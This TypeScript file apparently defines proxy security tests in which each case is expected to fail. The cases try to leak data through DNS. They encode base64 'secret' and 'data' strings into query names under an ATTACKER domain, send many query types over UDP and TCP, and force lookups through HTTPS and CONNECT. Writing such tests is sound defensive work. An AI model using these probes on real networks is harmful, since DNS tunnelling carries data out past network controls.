import { sharing } from '../../proof/proof';
import { type ProxyAttempt, request, secure, tunnel } from '../plan/attempt';
import { ATTACKER } from '../plan/target';

const EVERY_TYPE = [
  1, 2, 5, 6, 12, 13, 15, 16, 28, 29, 33, 35, 39, 43, 48, 50, 52, 64, 65, 99, 250, 252, 255, 256, 257,
];
const DATA = `${'c2VjcmV0'.repeat(7)}.${'ZGF0YQ'.repeat(9)}`;
/** The mark of the attempt is a label of each name, in lower case as names are. */
const NAME = `@token@.${ATTACKER}`;

const shared = {
  group: 'DNS through the proxy box',
  law: 'NET-3',
  heldBy: 'the box answers every name with its own address, and asks nobody',
  mustFailIn: ['names'],
  through: ({ asked: [first] }) => first && `a resolver was asked: ${first.slice(0, 60)}`,
} as const satisfies Partial<ProxyAttempt>;
const dns = (id: string, title: string, more: object) =>
  sharing<ProxyAttempt>(shared)(id, title, ({ own }) => [
    { probe: { do: 'dns', to: own, name: NAME, ...more } },
  ]);
const unnamed = sharing<ProxyAttempt>({
  ...shared,
  heldBy: 'no rule names the host: nothing is looked up for it',
  mustFailIn: ['hosts'],
});

/** Questions to the box's resolver. */
export const NAMES: readonly ProxyAttempt[] = [
  dns('N01', 'data in the labels of a name', { name: `${DATA}.${NAME}`, types: [1] }),
  dns('N02', `${EVERY_TYPE.length} question types`, { types: EVERY_TYPE }),
  dns('N03', `${EVERY_TYPE.length} question types over TCP`, { types: EVERY_TYPE, stream: true }),
  unnamed('N04', 'a name that nobody has, over HTTPS, so that the box must look it up', (target) => [
    secure(target, NAME, request('GET', '/', NAME)),
  ]),
  unnamed('N05', 'a name that nobody has, through CONNECT', (target) => [
    tunnel(target, `${NAME}:443`, NAME, request('GET', '/', NAME)),
  ]),
];
